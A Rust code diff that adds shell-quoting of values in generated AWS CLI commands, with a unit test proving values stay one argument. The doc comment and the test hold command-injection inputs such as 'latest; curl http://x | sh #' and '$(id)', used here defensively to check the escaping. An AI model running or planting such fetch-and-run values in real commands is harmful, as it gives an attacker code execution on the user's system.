@@ -35,7 +35,7 @@ impl ApiCall {
     /// takes no region.
     pub fn cli(&self, region: Option<&str>) -> String {
         let region = match region {
-            Some(region) if self.service != "iam" => format!(" --region {region}"),
+            Some(region) if self.service != "iam" => format!(" --region {}", shell_word(region)),
             _ => String::new(),
         };
         format!(
@@ -78,11 +78,50 @@ pub fn shell_quote(text: &str) -> String {
     format!("'{}'", text.replace('\'', r"'\''"))
 }
 
+/// The account placeholder preview mode writes, as reference 002 does; the
+/// shell is meant to expand it.
+pub const ACCOUNT_PLACEHOLDER: &str = "${AWS_ACCOUNT_ID}";
+
+/// One word of a command a person copies into a terminal: left bare when it
+/// holds nothing a shell reads specially (so commands read like the
+/// tutorials'), single-quoted otherwise. Whatever a value holds, it stays one
+/// argument: `latest; curl … | sh` cannot become a second command.
+pub fn shell_word(text: &str) -> String {
+    let plain = |rest: &str| {
+        rest.bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b"_./:@%+=,-".contains(&b))
+    };
+    if !text.is_empty() && plain(&text.replace(ACCOUNT_PLACEHOLDER, "")) {
+        text.to_string()
+    } else {
+        shell_quote(text)
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use serde_json::json;
 
     use super::*;
+
+    #[test]
+    fn values_stay_one_word_whatever_they_hold() {
+        assert_eq!(shell_word("ap-northeast-1"), "ap-northeast-1");
+        assert_eq!(
+            shell_word("${AWS_ACCOUNT_ID}.dkr.ecr.ap-northeast-1.amazonaws.com/web:v1"),
+            "${AWS_ACCOUNT_ID}.dkr.ecr.ap-northeast-1.amazonaws.com/web:v1",
+            "the placeholder is for the shell to expand"
+        );
+        assert_eq!(
+            shell_word("latest; curl http://x | sh #"),
+            "'latest; curl http://x | sh #'"
+        );
+        assert_eq!(shell_word("$(id)"), "'$(id)'");
+        assert_eq!(shell_word("${HOME}"), "'${HOME}'");
+        assert_eq!(shell_word("it's"), r"'it'\''s'");
+        assert_eq!(shell_word(""), "''");
+        assert_eq!(shell_word("a\nb"), "'a\nb'");
+    }
 
     #[test]
     fn operations_are_named_as_the_cli_names_them() {
